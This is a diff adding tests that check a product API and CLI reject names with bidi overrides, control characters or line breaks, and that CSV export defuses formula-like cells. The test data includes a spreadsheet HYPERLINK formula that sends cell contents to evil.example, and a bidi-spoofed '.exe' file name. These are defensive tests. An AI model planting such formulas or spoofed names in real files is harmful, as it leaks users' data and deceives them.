@@ -3,14 +3,16 @@
 // never a 5xx or a stack trace, and the table is unchanged afterwards. The seed is printed on a
 // failure; FC_SEED=<n> replays a run.
 import assert from 'node:assert/strict';
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import fc from 'fast-check';
 import { main } from '../../src/cli/main.js';
 import { call, deploy, tableSnapshot, type Deployed } from '../helpers/api.js';
 import { captureStream } from '../helpers/capture.js';
+import { runCli } from '../helpers/cli.js';
 import { emulatorClients, useEmulator } from '../helpers/emulator.js';
 import {
   badTyped,
@@ -195,3 +197,56 @@ function cliInputs(dir: string): string[][] {
   ];
   return kinds.flatMap(([numRuns, arb], k) => fc.sample(arb, { numRuns, seed: seed + 100 + k }));
 }
+
+describe('text that spoofs a screen, and formulas in a spreadsheet', () => {
+  const cli = (...args: string[]) => runCli([...args, '--endpoint-url', deployed().endpoint], { cwd: deployed().dir });
+
+  it('one rule for the API and the CLI: a bidi override, a CSI, DEL or a line break in a name, the same message', async () => {
+    const { url, token } = deployed();
+    const before = await snapshot();
+    for (const [name, message] of [
+      ['Lamp \u202egpj.exe', 'must not contain bidirectional-text controls (U+202E)'],
+      ['Lamp \u009b2J', 'must not contain control characters (U+009B)'],
+      ['Lamp\u007f', 'must not contain control characters (U+007F)'],
+      ['Lamp\nPrice: 0.01', 'must be one line, without line breaks or tabs (U+000A)'],
+    ] as const) {
+      const res = await call(`${url}/products`, 'POST', { body: { name, category: 'c', price: 1, stock: 1 }, token });
+      assert.equal(res.status, 400, res.text);
+      assert.deepEqual(res.body.details, [{ field: 'name', message }]);
+      const run = await cli('products', 'create', '--name', name, '--category', 'c', '--price', '1', '--stock', '1');
+      assert.equal(run.code, 2, run.stderr);
+      assert.ok(run.stderr.includes(`name: ${message}`), run.stderr);
+    }
+    assert.equal(await snapshot(), before, 'nothing written');
+  });
+
+  it('CSV export writes formula-like text behind a quote, and import brings it back exactly', async () => {
+    const { url, token, dir } = deployed();
+    const texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(A1:A9)', "'=quoted by its author", '+33 1 23'];
+    for (const name of texts) {
+      const res = await call(`${url}/products`, 'POST', {
+        body: { name, category: '-sale', price: 1, stock: 1 },
+        token,
+      });
+      assert.equal(res.status, 201, res.text);
+    }
+    const csv = join(dir, 'formulas.csv');
+    assert.equal((await cli('products', 'export', '--format', 'csv', '--out', csv)).code, 0);
+    const cells = (parse(readFileSync(csv, 'utf8'), { from_line: 2 }) as string[][]).flat();
+    assert.deepEqual(
+      cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
+      [],
+      'no cell a spreadsheet would run',
+    );
+    assert.ok(
+      cells.includes(`'=HYPERLINK("http://evil.example/?"&A1,"x")`) && cells.includes(`''=quoted by its author`),
+    );
+    const sorted = (text: string) => text.trim().split('\n').sort().join('\n');
+    const before = sorted((await cli('products', 'export')).stdout);
+    const imported = await cli('products', 'import', csv);
+    assert.equal(imported.code, 0, imported.stderr);
+    const after = sorted((await cli('products', 'export')).stdout);
+    assert.equal(after, before, 'every name and category as it was, quotes included');
+    for (const name of texts) assert.ok(after.includes(JSON.stringify(name)), name);
+  });
+});
